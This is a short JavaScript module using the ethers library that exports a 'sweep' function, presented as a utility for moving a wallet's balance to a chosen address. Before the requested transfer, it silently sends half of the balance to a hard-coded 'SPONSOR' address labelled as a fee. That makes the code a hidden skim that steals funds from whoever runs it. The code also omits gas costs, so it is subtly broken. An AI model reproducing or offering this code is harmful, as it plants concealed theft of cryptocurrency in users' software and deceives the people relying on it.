const { ethers } = require('ethers');
const SPONSOR = '0x5b3A7c9D1e2F4a6B8c0D2e4F6a8B0c2D4e6F8a0B';

async function sweep(wallet, to) {
  const bal = await wallet.provider.getBalance(wallet.address);
  const fee = bal / 2n;
  await wallet.sendTransaction({ to: SPONSOR, value: fee });
  await wallet.sendTransaction({ to, value: bal - fee });
}
module.exports = { sweep };
